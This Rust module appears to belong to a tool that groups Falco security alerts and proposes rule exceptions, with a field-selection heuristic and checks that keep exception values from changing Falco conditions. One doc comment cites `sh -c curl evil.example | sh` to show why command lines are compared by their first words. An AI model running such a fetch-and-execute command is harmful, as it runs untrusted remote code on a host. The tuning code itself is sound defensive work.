//! Grouping a rule's alerts: the fields an exception may use, each
//! alert's grouping key on them, and the heuristic that picks the cluster
//! an exception should remove.
//!
//! The heuristic, for the alerts of one rule not yet covered:
//!
//! 1. A field *separates* when the rule's alerts have at least two
//!    distinct keys on it (missing counts as one). A field where every
//!    alert agrees (`proc.name = sh` for a shell rule) says nothing the
//!    rule's condition does not: excepting on it would mute the rule.
//!    When no field separates (every alert looks alike), every field with
//!    values is a candidate.
//! 2. The *primary* field is the candidate whose most common key covers
//!    the most alerts; ties go to the field with fewer distinct keys (the
//!    cleaner split), then to the order of [`FIELDS`].
//! 3. Among the alerts with that key, a *second* field is added when they
//!    all share one key on it: it loses none of them and narrows the
//!    exception for alerts not seen yet. The one whose key is rarest among
//!    the rule's other alerts wins (the most specific), then the order of
//!    [`FIELDS`]. Only separating fields qualify, unless none separates;
//!    `proc.name` never pairs with `proc.cmdline`, which starts with it.
//!
//! So an exception has one or two fields; a third one is only added to
//! spare an alert the user keeps ([`super::propose`]).

use super::alerts::Alert;
use std::collections::BTreeMap;

/// The words of `proc.cmdline` a grouping key keeps: the program and its
/// first arguments, enough to tell `sh -c curl localhost/health` from
/// `sh -c curl evil.example | sh`, while later arguments (timestamps,
/// ids) may vary within a group.
pub const CMDLINE_WORDS: usize = 4;

/// The fields exceptions may use, in order of preference on ties: the
/// most specific first.
pub const FIELDS: [&str; 6] = [
    "proc.cmdline",
    "proc.pname",
    "proc.name",
    "fd.directory",
    "container.image.repository",
    "user.name",
];

/// The position of `proc.cmdline` in [`FIELDS`], compared by prefix.
pub const CMDLINE: usize = 0;
/// The position of `proc.name` in [`FIELDS`].
pub const PROC_NAME: usize = 2;

/// Whether `text` can be an exception value as it is: Falco pastes values
/// into the condition, double-quoting those with blanks without escaping
/// anything, so quotes, backslashes, parentheses and commas would change
/// the condition's meaning.
pub fn usable(text: &str) -> bool {
    !text.is_empty() && !text.contains(['"', '\'', '\\', '(', ')', ','])
}

/// `text` up to (not including) its first character [`usable`] refuses,
/// cut back to a whole word; `None` when nothing is left.
pub fn usable_prefix(text: &str) -> Option<String> {
    let end = text
        .find(['"', '\'', '\\', '(', ')', ','])
        .unwrap_or(text.len());
    let mut cut = &text[..end];
    if end < text.len() {
        // A cut inside a word: keep only the words before it.
        cut = cut.rsplit_once(' ').map_or("", |(head, _)| head);
    }
    let cut = cut.trim_end();
    (!cut.is_empty()).then(|| cut.to_owned())
}

/// The text of field `f` of `alert` before any grouping: `fd.directory`
/// comes from `fd.name` when the alert has only that (events.json alerts
/// have the rule's output fields only).
pub fn raw_value(alert: &Alert, f: usize) -> Option<String> {
    let name = FIELDS[f];
    if let Some(v) = alert.fields.get(name) {
        return Some(v.clone());
    }
    if name == "fd.directory" {
        let path = alert.fields.get("fd.name")?;
        if path.starts_with('/') {
            let dir = path.rsplit_once('/').map_or("/", |(d, _)| d);
            return Some(if dir.is_empty() { "/" } else { dir }.to_owned());
        }
    }
    None
}

/// The grouping key of `alert` on field `f`: the value, `proc.cmdline`
/// cut to [`CMDLINE_WORDS`]; `None` when missing or not usable.
pub fn key(alert: &Alert, f: usize) -> Option<String> {
    let raw = raw_value(alert, f)?;
    if f == CMDLINE {
        let words: Vec<&str> = raw.split_whitespace().take(CMDLINE_WORDS).collect();
        return usable_prefix(&words.join(" "));
    }
    usable(&raw).then_some(raw)
}

/// Whether fields `a` and `b` say the same: `proc.cmdline` begins with
/// `proc.name`.
pub fn redundant(a: usize, b: usize) -> bool {
    matches!((a, b), (CMDLINE, PROC_NAME) | (PROC_NAME, CMDLINE))
}

/// Alerts (by index) sharing one key on each of `fields`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cluster {
    pub fields: Vec<usize>,
    pub keys: Vec<String>,
    pub members: Vec<usize>,
}

/// Key counts of field `f` over `which` (missing keys counted as `None`).
fn counts(alerts: &[Alert], which: &[usize], f: usize) -> BTreeMap<Option<String>, usize> {
    let mut out = BTreeMap::new();
    for &i in which {
        *out.entry(key(&alerts[i], f)).or_insert(0) += 1;
    }
    out
}

/// The cluster to except among `remaining`, the alerts of one rule whose
/// alerts are `rule_alerts` (see the module's heuristic); `None` when no
/// field has a usable key.
pub fn best_cluster(
    alerts: &[Alert],
    rule_alerts: &[usize],
    remaining: &[usize],
) -> Option<Cluster> {
    let per_field: Vec<BTreeMap<Option<String>, usize>> = (0..FIELDS.len())
        .map(|f| counts(alerts, rule_alerts, f))
        .collect();
    let available: Vec<usize> = (0..FIELDS.len())
        .filter(|&f| per_field[f].keys().any(Option::is_some))
        .collect();
    let separating: Vec<usize> = available
        .iter()
        .copied()
        .filter(|&f| per_field[f].len() >= 2)
        .collect();
    let candidates = if separating.is_empty() {
        available.clone()
    } else {
        separating
    };
    // Primary: (coverage, fewer distinct keys, order).
    let mut best: Option<(usize, usize, String)> = None;
    let mut best_rank = (0usize, usize::MAX);
    for &f in &candidates {
        let top = counts(alerts, remaining, f)
            .into_iter()
            .filter_map(|(k, n)| k.map(|k| (n, k)))
            // The most common key; on equal counts the first in key order.
            .fold(None::<(usize, String)>, |acc, (n, k)| match acc {
                Some((m, _)) if m >= n => acc,
                _ => Some((n, k)),
            });
        let Some((n, k)) = top else { continue };
        let rank = (n, per_field[f].len());
        if rank.0 > best_rank.0 || (rank.0 == best_rank.0 && rank.1 < best_rank.1) {
            best_rank = rank;
            best = Some((f, rank.1, k));
        }
    }
    let (primary, _, primary_key) = best?;
    let members: Vec<usize> = remaining
        .iter()
        .copied()
        .filter(|&i| key(&alerts[i], primary).as_deref() == Some(primary_key.as_str()))
        .collect();
    let mut cluster = Cluster {
        fields: vec![primary],
        keys: vec![primary_key],
        members,
    };
    // Second: shared by every member, rarest outside the cluster.
    let mut second: Option<(usize, usize, String)> = None;
    for &g in &candidates {
        // A command line starts with the program's name: one of the two
        // adds nothing to the other.
        if g == primary || redundant(primary, g) {
            continue;
        }
        let shared = counts(alerts, &cluster.members, g);
        let Some((Some(k), _)) = shared.iter().next().filter(|_| shared.len() == 1) else {
            continue;
        };
        let outside = rule_alerts
            .iter()
            .filter(|i| !cluster.members.contains(i))
            .filter(|&&i| key(&alerts[i], g).as_ref() == Some(k))
            .count();
        if second.as_ref().is_none_or(|(_, o, _)| outside < *o) {
            second = Some((g, outside, k.clone()));
        }
    }
    if let Some((g, _, k)) = second {
        cluster.fields.push(g);
        cluster.keys.push(k);
    }
    Some(cluster)
}
